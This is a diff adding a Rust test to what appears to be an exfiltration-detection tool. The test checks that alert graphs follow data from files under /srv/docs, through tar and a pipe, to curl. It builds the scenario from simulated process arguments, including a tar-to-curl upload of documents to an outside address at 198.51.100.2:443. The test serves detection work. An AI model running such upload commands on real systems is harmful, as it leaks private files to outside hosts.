@@ -333,3 +333,58 @@ fn events_in_any_order_and_about_nobody_do_no_harm() {
     }
     assert_eq!(pipeline.totals().events, scene.events.len() as u64);
 }
+
+/// Each edge as words, by time.
+fn edges(alert: &Alert) -> Vec<String> {
+    use crate::alert::graph::Node;
+    let graph = &alert.graph;
+    let name = |index: usize| match &graph.nodes[index] {
+        Node::Process(key) => format!("pid {}", key.pid),
+        Node::File { path, .. } => path.to_string(),
+        Node::Files { place, count, .. } => format!("{count} below {place}"),
+        Node::Pipe(ino) => format!("pipe {ino}"),
+        Node::Destination { remote, .. } => remote.to_string(),
+    };
+    let words = |edge: &crate::alert::graph::Edge| {
+        let bytes = edge.bytes.map_or(String::new(), |bytes| format!(" {bytes}"));
+        format!("{} {:?}{bytes} {}", name(edge.from), edge.kind, name(edge.to)).to_lowercase()
+    };
+    graph.edges.iter().filter(|edge| edge.kind.moves_data()).map(words).collect()
+}
+
+#[test]
+fn the_graph_shows_the_way_of_the_data() {
+    let mut archive = Scene::new();
+    archive_and_upload(&mut archive);
+    archive.stop();
+    let mut piped = Scene::new();
+    piped.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
+    piped.spawn_with(100, 101, "/usr/bin/tar", &["tar", "-cz", "/srv/docs"], pipe_out(55));
+    let curl = ["curl", "-T", "-", "http://198.51.100.2:443/"];
+    piped.spawn_with(100, 102, "/usr/bin/curl", &curl, pipe_in(55));
+    read_documents(&mut piped, 101);
+    piped.connect(102, 7, OUTSIDE);
+    piped.send(102, 7, OUTSIDE, 12_050_000, 500_000);
+    piped.stop();
+    let documents: &[&str] = &["60 below /srv/docs read 12000000 pid 101"];
+    let rows: [(&Scene, &[&str], &[&str]); 2] = [
+        (
+            &archive,
+            &["pid 101 wrote 12000000 /var/tmp/a.tar.gz"],
+            &["/var/tmp/a.tar.gz read 12000000 pid 102", "pid 102 sent 12050000 198.51.100.2:443"],
+        ),
+        (
+            &piped,
+            &["pid 101 piped pipe 55", "pipe 55 piped pid 102"],
+            &["pid 102 sent 12050000 198.51.100.2:443"],
+        ),
+    ];
+    for (scene, before, after) in rows {
+        let alerts = alerts(scene);
+        let last = alerts.last().unwrap();
+        assert_eq!(edges(last), [before, documents, after].concat());
+        assert_eq!((last.graph.nodes_left_out, last.graph.edges_left_out), (0, 0));
+        let tar = last.chain.iter().find(|link| link.process.name() == b"tar").unwrap();
+        assert_eq!((tar.read.count, tar.read.bytes, tar.read.files.len()), (60, 12_000_000, 16));
+    }
+}
